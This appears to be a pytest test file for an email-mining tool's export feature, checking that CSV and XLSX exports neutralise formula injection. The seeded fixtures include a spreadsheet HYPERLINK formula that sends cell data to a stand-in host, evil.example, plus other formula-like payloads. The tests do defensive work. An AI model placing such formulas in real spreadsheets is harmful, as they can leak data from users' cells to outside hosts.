"""Exports: formula injection neutralised in CSV and XLSX, every format readable."""

import csv
import json
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert
from typer.testing import CliRunner

from inboxmine.cli.main import app
from inboxmine.db.engine import write_tx
from inboxmine.db.tables.opportunities import gems, sender_profiles, sender_segments
from inboxmine.opportunities.export import neutralize

NOW = datetime(2026, 3, 1, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_gets_a_leading_apostrophe(text):
    assert neutralize(text) == "'" + text


def test_ordinary_values_are_left_alone():
    assert neutralize("Acme Corp") == "Acme Corp"
    assert neutralize(-5) == -5 and neutralize(None) is None


def _seed(engine):
    with write_tx(engine) as conn:
        conn.execute(
            insert(sender_profiles).values(
                sender_domain="evil.example",
                company_name=EVIL,
                total_messages=3,
                marketing_sophistication_avg=2.0,
                profiled_at=NOW,
            )
        )
        conn.execute(
            insert(gems).values(
                gem_type="weak_marketing_lead",
                sender_domain="evil.example",
                thread_key="",
                status="new",
                score=50,
                detector_score=50,
                summary="+SUM(1,2) weak marketing",
                explanation={
                    "signals": [{"signal": "low_sophistication", "detail": "2/10", "evidence": []}]
                },
                recommended_actions=["-offer an audit"],
                created_at=NOW,
            )
        )
        conn.execute(
            insert(sender_segments).values(
                sender_domain="evil.example",
                segment="prospect_map",
                sub_segment="hot_lead",
                confidence=0.8,
                is_custom=False,
                assigned_at=NOW,
            )
        )


def _invoke(db_url, *args):
    result = CliRunner().invoke(app, ["--db", db_url, *args])
    assert result.exit_code == 0, result.output
    return result


def test_csv_export_of_gems_neutralises_sender_controlled_text(engine, settings, db_url, tmp_path):
    _seed(engine)
    out = tmp_path / "gems.csv"
    _invoke(db_url, "export", "gems", "--format", "csv", "-o", str(out))
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["company_name"] == "'" + EVIL
    assert row["summary"].startswith("'+SUM")
    assert row["recommended_actions"] == "'-offer an audit"
    assert row["signals"] == "low_sophistication: 2/10"


def test_xlsx_export_of_a_segment_stores_text_not_formulas(engine, settings, db_url, tmp_path):
    _seed(engine)
    out = tmp_path / "hot.xlsx"
    _invoke(db_url, "export", "segment", "prospect_map", "--format", "xlsx", "-o", str(out))
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert values["company_name"] == "'" + EVIL
    assert sheet[2][header.index("company_name")].data_type == "s"
    assert values["sub_segment"] == "hot_lead"


def test_jsonl_export_keeps_the_data_as_it_is(engine, settings, db_url, tmp_path):
    _seed(engine)
    out = tmp_path / "profiles.jsonl"
    _invoke(db_url, "export", "profiles", "--format", "jsonl", "-o", str(out))
    [record] = [json.loads(line) for line in out.read_text().splitlines()]
    assert record["company_name"] == EVIL and record["total_messages"] == 3


def test_exporting_an_unknown_segment_says_which_exist(engine, settings, db_url):
    _seed(engine)
    result = CliRunner().invoke(app, ["--db", db_url, "export", "segment", "nope"])
    assert result.exit_code == 1
    assert "prospect_map" in result.output
